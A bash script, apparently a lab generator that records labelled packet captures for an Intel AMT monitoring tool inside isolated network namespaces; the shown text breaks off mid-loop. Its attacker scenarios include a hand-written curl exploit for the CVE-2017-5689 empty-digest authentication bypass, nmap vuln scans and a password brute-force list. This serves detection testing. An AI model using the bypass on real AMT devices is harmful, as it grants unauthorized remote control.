#!/usr/bin/env bash
# Lab capture generator: real clients (curl, nmap, amtterm, openssl s_client) against the
# stand-in AMT firmware (pcaps/gen/amt-server.ts) in network namespaces, captured on the
# "switch" bridge with tcpdump. Writes pcaps/lab/*.pcap(ng|.gz), *.truth.json, amtwatch.yaml.
#
#   run (as root, from anywhere):   bash pcaps/gen/real.sh
#   only the extended-ports capture:  bash pcaps/gen/real.sh --extended-only
#     (re-records pcaps/lab/extended-ports.pcap and its truth file; every other capture is kept)
#   env: KEEP=1 keeps the work directory (server logs, client outputs) for debugging.
#
# Network rule: every packet stays inside namespaces named amtw-gen-* that this script creates
# (documentation prefixes 192.0.2.0/24, 198.51.100.0/24, 2001:db8:1::/64 only); nothing is
# attached to the host's own interfaces. Leftover amtw-gen-* namespaces are deleted first, and
# everything (processes, namespaces) is removed on exit, also on failure.
set -euo pipefail

ROOT=$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)
OUT=$ROOT/pcaps/lab
GEN=$ROOT/pcaps/gen
CERTS=$GEN/certs
P=amtw-gen-
PW='Amt-P4ss!'          # lab admin password of every AMT device
KVM_PW='Kvm-P4s!'       # RFBPassword of the AMT KVM server on 5900 (8 characters, as AMT requires)
VNC_PW='ws77-vnc'       # VNC password of the ordinary VNC server on ws77
NODE=$(command -v node)
cd "$ROOT"

EXTENDED_ONLY=0
case "${1:-}" in
  --extended-only) EXTENDED_ONLY=1 ;;
  "") ;;
  *) echo "real.sh: unknown argument $1 (only --extended-only)" >&2; exit 2 ;;
esac

[[ $(id -u) -eq 0 ]] || { echo "real.sh: run as root (namespaces, tcpdump)" >&2; exit 1; }
for t in ip tcpdump tshark editcap tcprewrite curl nmap amtterm openssl ethtool jq gzip python3 timeout Xvnc vncpasswd vncsnapshot; do
  command -v "$t" >/dev/null || { echo "real.sh: missing tool: $t" >&2; exit 1; }
done
[[ -f /usr/share/nmap/scripts/http-vuln-cve2017-5689.nse ]] || { echo "real.sh: nmap script http-vuln-cve2017-5689 missing" >&2; exit 1; }

WORK=$(mktemp -d /tmp/amtw-gen.XXXXXX)
mkdir -p "$WORK/steps" "$WORK/caps" "$OUT"
STEPS=$WORK/steps.jsonl
: > "$STEPS"
declare -A CAP_PID=()
XVNC_DISPLAY=""
ACTIVE_CAPS=""
SEQ=0

log() { printf '[real.sh %s] %s\n' "$(date +%H:%M:%S)" "$*" >&2; }

kill_ns_procs() {
  local ns=$1 pids
  pids=$(ip netns pids "$ns" 2>/dev/null || true)
  [[ -n $pids ]] || return 0
  # shellcheck disable=SC2086
  kill -TERM $pids 2>/dev/null || true
  for _ in 1 2 3 4 5 6 7 8 9 10; do
    pids=$(ip netns pids "$ns" 2>/dev/null || true)
    [[ -z $pids ]] && return 0
    sleep 0.2
  done
  # shellcheck disable=SC2086
  kill -KILL $pids 2>/dev/null || true
}

teardown() {
  local ns
  for ns in $(ip netns list 2>/dev/null | awk '{print $1}' | grep "^${P}" || true); do
    kill_ns_procs "$ns"
    ip netns del "$ns" 2>/dev/null || true
  done
  # Xvnc removes its lock and socket on SIGTERM; after a SIGKILL they are ours to remove
  if [[ -n ${XVNC_DISPLAY:-} ]]; then rm -f "/tmp/.X$XVNC_DISPLAY-lock" "/tmp/.X11-unix/X$XVNC_DISPLAY"; fi
}

on_exit() {
  local rc=$?
  set +e
  for c in "${!CAP_PID[@]}"; do kill -INT "${CAP_PID[$c]}" 2>/dev/null; done
  teardown
  if [[ $rc -ne 0 || ${KEEP:-0} == 1 ]]; then log "work directory kept: $WORK"; else rm -rf "$WORK"; fi
  [[ $rc -ne 0 ]] && log "FAILED (rc=$rc)"
  exit $rc
}
trap on_exit EXIT
trap 'exit 130' INT TERM

# ------------------------------------------------------------------------------------ topology
# name      ns suffix  MAC (fixed)        addresses                                  vlan  ipv6
# ("fill" holds the unused addresses of 192.0.2.0/28 so the sweep's SYNs get answered with RST)
HOSTS=(
  "console    console    02:00:c0:00:02:05  192.0.2.5/24,2001:db8:1::5/64              -     1"
  "attacker   attacker   02:00:c0:00:02:63  192.0.2.99/24,2001:db8:1::99/64            -     1"
  "amt10      amt10      02:00:c0:00:02:0a  192.0.2.10/24,2001:db8:1::10/64            -     1"
  "amt11      amt11      02:00:c0:00:02:0b  192.0.2.11/24                              -     0"
  "rogue66    rogue66    02:00:c0:00:02:42  192.0.2.66/24                              -     0"
  "unprov67   unprov67   02:00:c0:00:02:43  192.0.2.67/24                              -     0"
  "web        web        02:00:c0:00:02:50  192.0.2.80/24                              -     0"
  "ws77       ws77       02:00:c0:00:02:4d  192.0.2.77/24                              -     0"
  "fill       fill       02:00:c0:00:02:f0  192.0.2.1/24,192.0.2.2/24,192.0.2.3/24,192.0.2.4/24,192.0.2.6/24,192.0.2.7/24,192.0.2.8/24,192.0.2.9/24,192.0.2.12/24,192.0.2.13/24,192.0.2.14/24,192.0.2.15/24 - 0"
  "vcon       vcon       02:00:c6:33:64:05  198.51.100.5/24                            100   0"
  "vamt       vamt       02:00:c6:33:64:0a  198.51.100.10/24                           100   0"
)

setup() {
  teardown
  log "creating namespaces and the switch"
  ip netns add "${P}sw"
  ip netns exec "${P}sw" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  ip -n "${P}sw" link set lo up
  ip -n "${P}sw" link add br0 type bridge stp_state 0 forward_delay 0 mcast_snooping 0
  ip -n "${P}sw" link set br0 up
  local line name sfx mac addrs vlan v6 ns a
  for line in "${HOSTS[@]}"; do
    read -r name sfx mac addrs vlan v6 <<<"$line"
    ns=${P}${sfx}
    ip netns add "$ns"
    ip -n "$ns" link set lo up
    if [[ $v6 == 1 ]]; then
      # no router solicitations / DAD: keep the capture to what the scenarios do
      ip netns exec "$ns" sysctl -qw net.ipv6.conf.default.router_solicitations=0 net.ipv6.conf.all.router_solicitations=0 \
        net.ipv6.conf.default.accept_ra=0 net.ipv6.conf.default.dad_transmits=0
    else
      ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
    fi
    # veth pair created directly in both namespaces (host side eth0, switch side p-<name>)
    ip -n "$ns" link add eth0 address "$mac" type veth peer name "p-$sfx" netns "${P}sw"
    ip netns exec "$ns" ethtool -K eth0 tx off >/dev/null   # correct checksums in the capture (no TSO either)
    ip netns exec "${P}sw" ethtool -K "p-$sfx" tx off >/dev/null
    ip -n "${P}sw" link set "p-$sfx" master br0 up
    IFS=, read -ra al <<<"$addrs"
    for a in "${al[@]}"; do
      if [[ $a == *:* ]]; then ip -n "$ns" -6 addr add "$a" dev eth0 nodad; else ip -n "$ns" addr add "$a" dev eth0; fi
    done
    ip -n "$ns" link set eth0 up
    if [[ $vlan != - ]]; then
      # 802.1Q: this kernel has no 8021q module, so tag/untag with tc + eBPF on the host's veth
      ip netns exec "$ns" python3 "$GEN/real/vlan-bpf.py" eth0 "$vlan"
    fi
  done
}

# -------------------------------------------------------------------------------------- servers
start_server() { # name ns args...
  local name=$1 ns=$2; shift 2
  ip netns exec "$ns" "$NODE" --import tsx "$GEN/amt-server.ts" "$@" >"$WORK/srv-$name.out" 2>"$WORK/srv-$name.log" &
  echo "$name"
}

wait_ready() { # name...
  local n i
  for n in "$@"; do
    for i in $(seq 1 100); do
      grep -q '^READY' "$WORK/srv-$n.out" 2>/dev/null && break
      [[ $i == 100 ]] && { cat "$WORK/srv-$n.log" >&2; log "server $n did not start"; exit 1; }
      sleep 0.1
    done
    log "server $n: $(cat "$WORK/srv-$n.out")"
  done
}

start_servers() {
  log "starting stand-in AMT servers and the web server"
  # the extended ports (TCP 623/664 DASH, UDP 623 RMCP, TCP 5900 KVM) listen too; the scenarios
  # before scenario_x never touch them
  start_server amt10 "${P}amt10" --bind 192.0.2.10 --bind 2001:db8:1::10 --firmware 9.5.30.1000 --vulnerable \
    --user admin --password "$PW" --hostname amt10 --allow-userpass --heartbeat-ms 1000 \
    --http 16992 --https 16993 --redir 16994 --redir-tls 16995 --cert "$CERTS/amt.crt" --key "$CERTS/amt.key" \
    --dash-http 623 --dash-https 664 --rmcp 623 --rmcp-state post --kvm 5900 --kvm-password "$KVM_PW" >/dev/null
  start_server amt11 "${P}amt11" --bind 192.0.2.11 --firmware 11.8.50.3425 --user admin --password "$PW" --hostname amt11 \
    --allow-userpass --http 16992 --https 16993 --redir 16994 --cert "$CERTS/amt.crt" --key "$CERTS/amt.key" \
    --rmcp 623 --rmcp-state post --rmcp-dual >/dev/null
  start_server rogue66 "${P}rogue66" --bind 192.0.2.66 --firmware 11.0.22.1000 --vulnerable --user admin --password "$PW" \
    --hostname kiosk-07 --allow-userpass --http 16992 --redir 16994 --rmcp 623 --rmcp-state post >/dev/null
  # AMT 9.5 present but never set up (pong port 0, pre-provisioning): answers RMCP only
  start_server unprov67 "${P}unprov67" --bind 192.0.2.67 --firmware 9.5.30.1000 --hostname unprov-67 \
    --rmcp 623 --rmcp-state pre >/dev/null
  start_server vamt "${P}vamt" --bind 198.51.100.10 --firmware 11.8.50.3425 --user admin --password "$PW" --hostname amt-v100 \
    --allow-userpass --http 16992 --https 16993 --redir 16994 --redir-tls 16995 --cert "$CERTS/amt.crt" --key "$CERTS/amt.key" >/dev/null
  start_server web "${P}web" --web --bind 192.0.2.80 --hostname intranet --http 80 --https 443 \
    --cert "$CERTS/web.crt" --key "$CERTS/web.key" >/dev/null
  wait_ready amt10 amt11 rogue66 unprov67 vamt web
  start_xvnc
}

# An ordinary VNC server (TigerVNC's Xvnc, Debian tigervnc-standalone-server) on the workstation
# 192.0.2.77:5900: VNC authentication, desktop name "ws77:<display> (lab)", not AMT.
start_xvnc() {
  local d i
  for d in $(seq 57 99); do [[ -e /tmp/.X$d-lock || -e /tmp/.X11-unix/X$d ]] || break; done
  XVNC_DISPLAY=$d
  printf '%s\n' "$VNC_PW" | vncpasswd -f >"$WORK/ws77.vncpasswd"
  ip netns exec "${P}ws77" Xvnc ":$d" -rfbport 5900 -interface 192.0.2.77 -SecurityTypes VncAuth \
    -rfbauth "$WORK/ws77.vncpasswd" -desktop "ws77:$d (lab)" -geometry 320x200 -depth 24 -nolisten tcp \
    >"$WORK/xvnc.log" 2>&1 &
  for i in $(seq 1 100); do
    grep -q 'Listening for VNC connections' "$WORK/xvnc.log" 2>/dev/null && break
    [[ $i == 100 ]] && { cat "$WORK/xvnc.log" >&2; log "Xvnc did not start"; exit 1; }
    sleep 0.1
  done
  log "Xvnc :$d on 192.0.2.77:5900 (desktop \"ws77:$d (lab)\")"
}

# ------------------------------------------------------------------------------------- captures
cap_start() { # name
  local name=$1 f=$WORK/caps/$1.pcap i
  ip netns exec "${P}sw" tcpdump -i br0 -n -s 262144 -B 16384 -U -w "$f" >"$WORK/caps/$name.tcpdump.log" 2>&1 &
  CAP_PID[$name]=$!
  for i in $(seq 1 50); do
    grep -q 'listening on' "$WORK/caps/$name.tcpdump.log" && break
    [[ $i == 50 ]] && { log "tcpdump for $name did not start"; exit 1; }
    sleep 0.1
  done
  ACTIVE_CAPS="$ACTIVE_CAPS $name"
  sleep 0.2
}

cap_stop() { # name
  local name=$1
  sleep 1.5   # > tcpdump's 1 s TPACKET_V3 block timeout: every packet is delivered before SIGINT
  kill -INT "${CAP_PID[$name]}"
  wait "${CAP_PID[$name]}" 2>/dev/null || true
  unset "CAP_PID[$name]"
  ACTIVE_CAPS=$(tr ' ' '\n' <<<"$ACTIVE_CAPS" | grep -vx "$name" | tr '\n' ' ' || true)
  log "capture $name: $(grep -E 'captured|dropped by kernel' "$WORK/caps/$name.tcpdump.log" | tr '\n' ' ')"
  grep -q '^0 packets dropped by kernel' "$WORK/caps/$name.tcpdump.log" || { log "tcpdump dropped packets in $name"; exit 1; }
}

# ---------------------------------------------------------------------------------------- steps
# step ID SCENARIO CLIENT_NS CLIENT_ADDR SERVER_ADDR SERVER_PORT TOOL EXPECT TIMEOUT -- command...
#   EXPECT: comma list of key=value for truth.ts (amt=1|0, auth=success|failure|none|bypass, ...)
#   STDIN (env): bash snippet whose output is piped into the command (amtterm, s_client)
#   SHOWN (env): command line to record instead of the literal one (for bash -c snippets)
step() {
  local id=$1 scen=$2 ns=$3 caddr=$4 saddr=$5 sport=$6 tool=$7 expect=$8 tmo=$9
  shift 10
  SEQ=$((SEQ + 1))
  local shown=${SHOWN:-$(printf '%q ' "$@")}
  shown=${shown//$WORK/\$WORK}; shown=${shown//$ROOT\//}; shown=${shown//$NODE /node }   # stable across machines
  local out=$WORK/steps/$id.out err=$WORK/steps/$id.err rc=0 t0 t1
  t0=$(date +%s.%N)
  if [[ -n ${STDIN:-} ]]; then
    bash -c "$STDIN" | ip netns exec "${P}$ns" timeout -k 2 "$tmo" "$@" >"$out" 2>"$err" || rc=$?
  else
    ip netns exec "${P}$ns" timeout -k 2 "$tmo" "$@" >"$out" 2>"$err" </dev/null || rc=$?
  fi
  t1=$(date +%s.%N)
  jq -nc --argjson seq "$SEQ" --arg id "$id" --arg scenario "$scen" --arg client_ns "$ns" --arg client "$caddr" \
    --arg server "$saddr" --arg port "$sport" --arg tool "$tool" --arg expect "$expect" --arg command "${shown% }" \
    --arg stdin "${STDIN:-}" --argjson rc "$rc" --argjson t0 "$t0" --argjson t1 "$t1" --arg caps "$ACTIVE_CAPS" \
    --rawfile stdout "$out" --rawfile stderr "$err" \
    '{seq:$seq,id:$id,scenario:$scenario,client_ns:$client_ns,client:$client,server:$server,port:$port,tool:$tool,
      expect:$expect,command:$command,stdin:$stdin,rc:$rc,t0:$t0,t1:$t1,captures:($caps|split(" ")|map(select(.!=""))),
      stdout:($stdout|.[0:4000]),stderr:($stderr|.[0:4000])}' >>"$STEPS"
  log "step $id ($tool $caddr -> $saddr:$sport) rc=$rc $(head -c 120 "$out" | tr -d '\r' | tr '\n' ' ')"
  sleep 0.3
}

URL10=http://192.0.2.10:16992
WSMAN_CT='Content-Type: application/soap+xml;charset=UTF-8'
CURL=(curl -sS --max-time 8)


# amtterm keystrokes: wait for the session, log in at the fake console, run a command, ^] quits
AMTTERM_KEYS="sleep 1.5; printf 'root\r'; sleep 0.7; printf 'toor\r'; sleep 0.7; printf 'uname -a\r'; sleep 0.8; printf '\x1d'; sleep 1.5"
# CVE-2017-5689 by hand with curl: take realm/nonce from the 401, answer with response=""
bypass_snippet() { # url-base uri
  cat <<EOF
h=\$(curl -sS -g --max-time 5 -D - -o /dev/null '$1$2'); realm=\$(sed -n 's/.*realm="\([^"]*\)".*/\1/p' <<<"\$h"); nonce=\$(sed -n 's/.*nonce="\([^"]*\)".*/\1/p' <<<"\$h"); curl -sS -g --max-time 5 -o /dev/null -w '%{http_code}' -H "Authorization: Digest username=\"admin\", realm=\"\$realm\", nonce=\"\$nonce\", uri=\"$2\", response=\"\", qop=auth, nc=00000001, cnonce=\"9f2c4e1a7b3d5c60\"" '$1$2'
EOF
}

# ------------------------------------------------------------------------------------ scenarios
scenario_a() { # authorized console -> inventoried, vulnerable AMT 192.0.2.10
  cap_start curl-digest-good
  step a1-curl-digest-index a console 192.0.2.5 192.0.2.10 16992 curl "amt=1,auth=success,proto=http" 15 -- \
    "${CURL[@]}" --digest -u "admin:$PW" -o /dev/null -w '%{http_code}' "$URL10/index.htm"
  step a2-wsman-identity a console 192.0.2.5 192.0.2.10 16992 curl "amt=1,auth=success,proto=http,wsman=CIM_SoftwareIdentity.Get" 15 -- \
    "${CURL[@]}" --digest -u "admin:$PW" -H "$WSMAN_CT" --data-binary "@$GEN/real/wsman-identity.xml" -o /dev/null -w '%{http_code}' "$URL10/wsman"
  step a3-wsman-power a console 192.0.2.5 192.0.2.10 16992 curl "amt=1,auth=success,proto=http,wsman=CIM_PowerManagementService.RequestPowerStateChange" 15 -- \
    "${CURL[@]}" --digest -u "admin:$PW" -H "$WSMAN_CT" --data-binary "@$GEN/real/wsman-power.xml" -o /dev/null -w '%{http_code}' "$URL10/wsman"
  cap_stop curl-digest-good
  cap_start tls12-sni
  STDIN="printf 'GET / HTTP/1.1\r\nHost: amt10.lab.example\r\nConnection: close\r\n\r\n'; sleep 1.5" \
    step a4-tls12-sni a console 192.0.2.5 192.0.2.10 16993 openssl "amt=1,auth=none,proto=https,tls=TLSv1.2,sni=amt10.lab.example" 15 -- \
    openssl s_client -tls1_2 -servername amt10.lab.example -connect 192.0.2.10:16993
  cap_stop tls12-sni
  cap_start amtterm-sol-good
  STDIN=$AMTTERM_KEYS step a5-amtterm-sol-good a console 192.0.2.5 192.0.2.10 16994 amtterm "amt=1,auth=success,proto=redir,session=SOL,redir_auth=userpass" 20 -- \
    amtterm -u admin -p "$PW" 192.0.2.10 16994
  cap_stop amtterm-sol-good
}

scenario_b() { # attacker (not authorized) -> 192.0.2.10
  cap_start curl-digest-bad
  step b1-curl-digest-wrong b attacker 192.0.2.99 192.0.2.10 16992 curl "amt=1,auth=failure,proto=http" 15 -- \
    "${CURL[@]}" --digest -u 'admin:Winter2024!' -o /dev/null -w '%{http_code}' "$URL10/index.htm"
  cap_stop curl-digest-bad
  cap_start nmap-cve-vulnerable
  step b2-nmap-cve-vulnerable b attacker 192.0.2.99 192.0.2.10 16992 nmap-nse "amt=1,auth=bypass,proto=http,bypass_attempt=1,bypass_success=1" 60 -- \
    nmap -Pn -n -p16992 --script http-vuln-cve2017-5689 --script-args vulns.showall 192.0.2.10
  cap_stop nmap-cve-vulnerable
  cap_start amtterm-sol-bad
  STDIN="sleep 3" step b3-amtterm-sol-bad b attacker 192.0.2.99 192.0.2.10 16994 amtterm "amt=1,auth=failure,proto=redir,session=SOL,redir_auth=userpass" 15 -- \
    amtterm -u admin -p 'admin' 192.0.2.10 16994
  cap_stop amtterm-sol-bad
  cap_start tls13-redir
  # StartRedirectionSession "SOL " + AuthenticateSession query, inside TLS 1.3 on 16995
  STDIN="printf '\x10\x00\x00\x00SOL '; sleep 0.5; printf '\x13\x00\x00\x00\x00\x00\x00\x00\x00'; sleep 1.5" \
    step b4-tls13-redir b attacker 192.0.2.99 192.0.2.10 16995 openssl "amt=1,auth=none,proto=redir-tls,tls=TLSv1.3,sni=amt10.lab.example,session=SOL" 15 -- \
    openssl s_client -tls1_3 -servername amt10.lab.example -connect 192.0.2.10:16995
  cap_stop tls13-redir
  step b5-curl-ipv6-wrong b attacker 2001:db8:1::99 2001:db8:1::10 16992 curl "amt=1,auth=failure,proto=http,ipv6=1" 15 -- \
    "${CURL[@]}" -g --digest -u 'admin:Password1' -o /dev/null -w '%{http_code}' 'http://[2001:db8:1::10]:16992/index.htm'
  SHOWN="bash -c '<curl challenge, then curl -H \"Authorization: Digest username=\\\"admin\\\", ... uri=\\\"/hw-sys.htm\\\", response=\\\"\\\" ...\" http://[2001:db8:1::10]:16992/hw-sys.htm>'" \
    step b6-curl-ipv6-bypass b attacker 2001:db8:1::99 2001:db8:1::10 16992 curl-exploit "amt=1,auth=bypass,proto=http,ipv6=1,bypass_attempt=1,bypass_success=1" 15 -- \
    bash -c "$(bypass_snippet 'http://[2001:db8:1::10]:16992' /hw-sys.htm)"
}

scenario_c() { # attacker -> patched 192.0.2.11
  cap_start nmap-cve-patched
  step c1-nmap-cve-patched c attacker 192.0.2.99 192.0.2.11 16992 nmap-nse "amt=1,auth=failure,proto=http,bypass_attempt=1,bypass_success=0" 60 -- \
    nmap -Pn -n -p16992 --script http-vuln-cve2017-5689 --script-args vulns.showall 192.0.2.11
  cap_stop nmap-cve-patched
}

scenario_d() { # rogue AMT device 192.0.2.66 (not in inventory)
  step d1-curl-rogue-attacker d attacker 192.0.2.99 192.0.2.66 16992 curl "amt=1,auth=none,proto=http" 15 -- \
    "${CURL[@]}" -o /dev/null -w '%{http_code}' http://192.0.2.66:16992/index.htm
  step d2-curl-rogue-console d console 192.0.2.5 192.0.2.66 16992 curl "amt=1,auth=success,proto=http" 15 -- \
    "${CURL[@]}" --digest -u "admin:$PW" -o /dev/null -w '%{http_code}' http://192.0.2.66:16992/index.htm
}

scenario_e() { # VLAN 100
  step e1-curl-vlan100 e vcon 198.51.100.5 198.51.100.10 16992 curl "amt=1,auth=success,proto=http,vlan=100" 15 -- \
    "${CURL[@]}" --digest -u "admin:$PW" -o /dev/null -w '%{http_code}' http://198.51.100.10:16992/index.htm
}

scenario_f() { # SYN scan of a few AMT hosts
  step f1-nmap-syn-scan f attacker 192.0.2.99 192.0.2.10,192.0.2.11,192.0.2.66 16992-16995 nmap-scan "amt=0,scan=1" 60 -- \
    nmap -sS -Pn -n -p16992-16995 192.0.2.10 192.0.2.11 192.0.2.66
}

scenario_g() { # background web traffic and AMT-port decoys
  local res=(--resolve web.lab.example:443:192.0.2.80 --cacert "$CERTS/ca.crt")
  step g1-web-http g ws77 192.0.2.77 192.0.2.80 80 curl "amt=0,proto=web" 15 -- \
    "${CURL[@]}" -o /dev/null -w '%{http_code}' http://192.0.2.80/
  step g2-web-https g ws77 192.0.2.77 192.0.2.80 443 curl "amt=0,proto=web-tls" 15 -- \
    "${CURL[@]}" "${res[@]}" -o /dev/null -w '%{http_code}' https://web.lab.example/news.html
  step g3-decoy-sport-16993 g ws77 192.0.2.77 192.0.2.80 80 curl "amt=0,proto=web,decoy_client_port=16993" 15 -- \
    "${CURL[@]}" --local-port 16993 -o /dev/null -w '%{http_code}' http://192.0.2.80/index.html
  step g4-decoy-sport-16992 g ws77 192.0.2.77 192.0.2.80 443 curl "amt=0,proto=web-tls,decoy_client_port=16992" 15 -- \
    "${CURL[@]}" --local-port 16992 "${res[@]}" -o /dev/null -w '%{http_code}' https://web.lab.example/
}

scenario_bruteforce() {
  local pws=(admin password Password1 'P@ssw0rd' 'Admin123!' 'Welcome1' 'intel123' 'Amt-Pass!' 'amt-p4ss!' 'Amt-P4ss' 'Amt-P4ss!!' 'Summer2024!') i=0 pw
  for pw in "${pws[@]}"; do
    i=$((i + 1))
    step "h$(printf %02d $i)-bruteforce-wrong" h attacker 192.0.2.99 192.0.2.10 16992 curl "amt=1,auth=failure,proto=http,bruteforce=1" 15 -- \
      "${CURL[@]}" --digest -u "admin:$pw" -o /dev/null -w '%{http_code}' "$URL10/index.htm"
  done
  step h13-bruteforce-right h attacker 192.0.2.99 192.0.2.10 16992 curl "amt=1,auth=success,proto=http,bruteforce=1" 15 -- \
    "${CURL[@]}" --digest -u "admin:$PW" -o /dev/null -w '%{http_code}' "$URL10/index.htm"
}

scenario_sweep() {
  step s1-nmap-sweep-28 s attacker 192.0.2.99 192.0.2.0/28 16992-16995 nmap-scan "amt=0,scan=1" 90 -- \
    nmap -sS -Pn -n -p16992-16995 --max-retries 1 192.0.2.0/28
}

scenario_ider_kvm() {
  local rc=("$NODE" --import tsx "$GEN/real/redir-client.ts" --timeout 15)
  step i1-ider-console i console 192.0.2.5 192.0.2.10 16994 redir-client "amt=1,auth=success,proto=redir,session=IDER,redir_auth=digest" 25 -- \
    "${rc[@]}" --password "$PW" --host 192.0.2.10 --mode ider
  step i2-kvm-attacker i attacker 192.0.2.99 192.0.2.10 16994 redir-client "amt=1,auth=success,proto=redir,session=KVM,redir_auth=digest" 25 -- \
    "${rc[@]}" --password "$PW" --host 192.0.2.10 --mode kvm --keys 'cmd.exe\n'
  step i3-kvm-console-rogue i console 192.0.2.5 192.0.2.66 16994 redir-client "amt=1,auth=success,proto=redir,session=KVM,redir_auth=digest" 25 -- \
    "${rc[@]}" --password "$PW" --host 192.0.2.66 --mode kvm --keys 'root\n'
  step i4-ws-sol-console i console 192.0.2.5 192.0.2.10 16992 redir-client "amt=1,auth=success,proto=http-ws,session=SOL,redir_auth=digest" 25 -- \
    "${rc[@]}" --password "$PW" --host 192.0.2.10 --port 16992 --ws --mode sol --keys 'root\ntoor\nhostname\n'
  step i5-kvm-attacker-wrong i attacker 192.0.2.99 192.0.2.10 16994 redir-client "amt=1,auth=failure,proto=redir,session=KVM,redir_auth=digest" 25 -- \
    "${rc[@]}" --host 192.0.2.10 --mode kvm --password 'guess-1234'
}

scenario_x() { # --extended-ports: DASH on TCP 623/664, RMCP on UDP 623, RFB on TCP 5900
  local snap=(vncsnapshot -allowblank -quiet -encodings "hextile raw" -passwd)
  printf '%s\n' "$KVM_PW" | vncpasswd -f >"$WORK/kvm.vncpasswd"
  printf '%s\n' "$VNC_PW" | vncpasswd -f >"$WORK/ws77.vncpasswd.client"
  step x01-curl-digest-623 x console 192.0.2.5 192.0.2.10 623 curl "amt=1,auth=success,proto=dash-http" 15 -- \
    "${CURL[@]}" --digest -u "admin:$PW" -o /dev/null -w '%{http_code}' http://192.0.2.10:623/index.htm
  step x02-nmap-cve-623 x attacker 192.0.2.99 192.0.2.10 623 nmap-nse "amt=1,auth=bypass,proto=dash-http,bypass_attempt=1,bypass_success=1" 60 -- \
    nmap -Pn -n -p623 --script http-vuln-cve2017-5689 --script-args vulns.showall 192.0.2.10
  STDIN="printf 'GET / HTTP/1.1\r\nHost: amt10.lab.example\r\nConnection: close\r\n\r\n'; sleep 1.5" \
    step x03-tls12-664 x console 192.0.2.5 192.0.2.10 664 openssl "amt=1,auth=none,proto=dash-https,tls=TLSv1.2,sni=amt10.lab.example" 15 -- \
    openssl s_client -tls1_2 -servername amt10.lab.example -connect 192.0.2.10:664
  STDIN="sleep 1.5" \
    step x04-tls13-664-attacker x attacker 192.0.2.99 192.0.2.10 664 openssl "amt=1,auth=none,proto=dash-https,tls=TLSv1.3" 15 -- \
    openssl s_client -tls1_3 -connect 192.0.2.10:664
  step x05-rmcp-ping-console x console 192.0.2.5 192.0.2.10,192.0.2.11 623 rmcp-ping "amt=0,rmcp=1" 15 -- \
    "$NODE" --import tsx "$GEN/real/rmcp-ping.ts" --timeout 2000 192.0.2.10 192.0.2.11
  step x06-nmap-udp-sweep x attacker 192.0.2.99 192.0.2.0/28,192.0.2.66,192.0.2.67 623 nmap-udp "amt=0,rmcp=1,scan=1" 90 -- \
    nmap -sU -Pn -n -p623 --max-retries 1 192.0.2.0/28 192.0.2.66 192.0.2.67
  step x07-nmap-ipmi-version x attacker 192.0.2.99 192.0.2.10 623 nmap-nse "amt=0,rmcp=1,ipmi=1" 60 -- \
    nmap -sU -Pn -n -p623 --script ipmi-version 192.0.2.10
  step x08-vnc-amt-attacker x attacker 192.0.2.99 192.0.2.10 5900 vncsnapshot "amt=1,auth=success,proto=kvm-5900" 20 -- \
    "${snap[@]}" "$WORK/kvm.vncpasswd" 192.0.2.10::5900 "$WORK/x08.jpg"
  step x09-vnc-amt-console x console 192.0.2.5 192.0.2.10 5900 vncsnapshot "amt=1,auth=success,proto=kvm-5900" 20 -- \
    "${snap[@]}" "$WORK/kvm.vncpasswd" 192.0.2.10::5900 "$WORK/x09.jpg"
  step x10-vnc-ordinary x console 192.0.2.5 192.0.2.77 5900 vncsnapshot "amt=0,proto=vnc" 20 -- \
    "${snap[@]}" "$WORK/ws77.vncpasswd.client" 192.0.2.77::5900 "$WORK/x10.jpg"
}

# ----------------------------------------------------------------------------------------- main
setup
start_servers
sleep 1.5   # let link-local/ND chatter settle before the first capture

if [[ $EXTENDED_ONLY == 1 ]]; then
  log "extended ports only: extended-ports.pcap"
  cap_start extended-ports; scenario_x; cap_stop extended-ports
  for ns in amt10 amt11 rogue66 unprov67 vamt web ws77; do kill_ns_procs "${P}$ns"; done
  teardown
  cp "$WORK/caps/extended-ports.pcap" "$OUT/"
  "$NODE" --import tsx "$GEN/real/truth.ts" --steps "$STEPS" --out "$OUT" --policy "$OUT/amtwatch.yaml" --servers "$WORK"
  f=$OUT/extended-ports.pcap
  log "extended-ports.pcap: $(stat -c %s "$f") bytes, $(tshark -r "$f" 2>/dev/null | wc -l) frames, $(tshark -r "$f" -Y 'udp.port==623' 2>/dev/null | wc -l) on UDP 623, $(tshark -r "$f" -q -z conv,tcp 2>/dev/null | grep -c '<->') tcp conversations"
  log "done"
  exit 0
fi

log "mixed capture amt-lab (scenarios a-g) with per-family captures"
cap_start amt-lab
cap_start formats-base
scenario_a
scenario_b
cap_stop formats-base
scenario_c
scenario_d
scenario_e
scenario_f
scenario_g
cap_stop amt-lab

log "bruteforce, sweep, ider-kvm"
cap_start bruteforce; scenario_bruteforce; cap_stop bruteforce
cap_start sweep; scenario_sweep; cap_stop sweep
cap_start ider-kvm; scenario_ider_kvm; cap_stop ider-kvm
cap_start extended-ports; scenario_x; cap_stop extended-ports

# stop the servers now (their logs are final) and take everything down
for ns in amt10 amt11 rogue66 unprov67 vamt web ws77; do kill_ns_procs "${P}$ns"; done
teardown

log "writing outputs to pcaps/lab"
rm -f "$OUT"/*.pcap "$OUT"/*.pcapng "$OUT"/*.pcap.gz "$OUT"/*.truth.json
for f in "$WORK"/caps/*.pcap; do cp "$f" "$OUT/"; done
editcap -F nsecpcap "$OUT/formats-base.pcap" "$OUT/formats-ns.pcap"
editcap -F pcapng "$OUT/formats-base.pcap" "$OUT/formats.pcapng"
gzip -9n -c "$OUT/formats-base.pcap" >"$OUT/formats.pcap.gz"
tcprewrite --enet-vlan=add --enet-vlan-tag=42 --enet-vlan-cfi=0 --enet-vlan-pri=0 \
  --infile="$OUT/formats-base.pcap" --outfile="$OUT/formats-vlan.pcap"

cat >"$OUT/amtwatch.yaml" <<'EOF'
# authorized management consoles (CIDR or address)
authorized:
  - 192.0.2.5
  - 2001:db8:1::5
  - 198.51.100.5
# known AMT endpoints (inventory); a server outside it is a rogue AMT device
amt_hosts:
  - 192.0.2.10
  - 2001:db8:1::10
  - 192.0.2.11
  - 198.51.100.10
EOF

TRUTH_RC=0
"$NODE" --import tsx "$GEN/real/truth.ts" --steps "$STEPS" --out "$OUT" --policy "$OUT/amtwatch.yaml" --servers "$WORK" || TRUTH_RC=$?

log "verification (tshark)"
for f in "$OUT"/*.pcap "$OUT"/*.pcapng "$OUT"/*.pcap.gz; do
